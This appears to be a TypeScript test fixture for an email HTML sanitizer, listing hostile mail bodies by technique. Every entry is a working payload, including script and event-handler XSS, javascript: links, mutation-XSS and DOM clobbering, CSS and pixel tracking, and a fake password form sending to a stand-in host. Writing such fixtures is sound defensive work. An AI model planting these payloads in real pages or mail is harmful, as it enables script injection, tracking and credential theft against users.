/**
 * Mails that try to run, to ask, to phone home, or to look like something else.
 */

/** Says so on the page, if it is ever run. */
const RUN = "top.pwned=1;parent.pwned=1;window.pwned=1";

/** By what they try. `https://tracker.example` must never be asked. */
export const HOSTILE: Record<string, string> = {
  "a script": `<p>Hi</p><script>${RUN}</script><script src="https://tracker.example/x.js"></script>`,
  "an event handler": `<p>Hi</p><img src=x onerror="${RUN}"><svg onload="${RUN}"><body onload="${RUN}"><details open ontoggle="${RUN}">x</details>`,
  "a link that runs": `<p>Hi</p><a id=x href="javascript:${RUN}">x</a><a href="java&#x0A;script:${RUN}">y</a><a href="data:text/html,<script>${RUN}</script>">z</a><a href="vbscript:x">v</a>`,
  "a frame": `<p>Hi</p><iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="https://tracker.example/"></iframe><object data="https://tracker.example/o"></object><embed src="https://tracker.example/e"><frameset><frame src="https://tracker.example/f"></frameset>`,
  "a form": `<p>Hi</p><form action="https://tracker.example/steal"><input name=password type=password autofocus><button>Sign in</button></form><textarea>x</textarea><select><option>x</select>`,
  "a new base and refresh": `<head><base href="https://tracker.example/"><meta http-equiv="refresh" content="0;url=https://tracker.example/"><link rel=stylesheet href="https://tracker.example/s.css"><link rel=prefetch href="https://tracker.example/p"></head><p>Hi</p><img src="relative.png">`,
  "a tracking pixel": `<p>Hi</p><img src="https://tracker.example/p.gif"><img src="//tracker.example/q.gif"><img srcset="https://tracker.example/r.gif 2x"><picture><source srcset="https://tracker.example/s.gif"><img src=x></picture><table background="https://tracker.example/b.gif"><tr><td background="https://tracker.example/c.gif">x</td></tr></table>`,
  "css that asks": `<style>@import url(https://tracker.example/i.css);@font-face{font-family:x;src:url(https://tracker.example/f.woff)}p{background:url(https://tracker.example/b.png);font-family:x}a{cursor:url(https://tracker.example/c.cur),auto}</style><p style="background-image:url('https://tracker.example/d.png')">Hi</p>`,
  "oddly spelled styles": `<style>p{background:\\75rl(https://tracker.example/1.png)}b{background:url(\\68ttps://tracker.example/2.png)}@\\69mport "https://tracker.example/3.css";</style><p style="background:u\\72l(https://tracker.example/4.png)">Hi</p><b>x</b><i style="background:image-set('https://tracker.example/5.png' 1x)">y</i>`,
  "media that asks": `<p>Hi</p><video src="https://tracker.example/v" poster="https://tracker.example/w" autoplay></video><audio src="https://tracker.example/a" autoplay></audio>`,
  "svg and math": `<p>Hi</p><svg><script>${RUN}</script><image href="https://tracker.example/i.svg"/><use href="https://tracker.example/u.svg#x"/><foreignObject><iframe src="https://tracker.example/"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  mutation: `<p>Hi</p><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  clobbering: `<p>Hi</p><img name=body><img id=documentElement><form id=defaultView><input name=attributes></form><a id=head></a><img name=contentDocument>`,
  "an svg picture that runs": `<p>Hi</p><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>"><a href="data:image/svg+xml,<svg onload='${RUN}'/>">x</a>`,
};
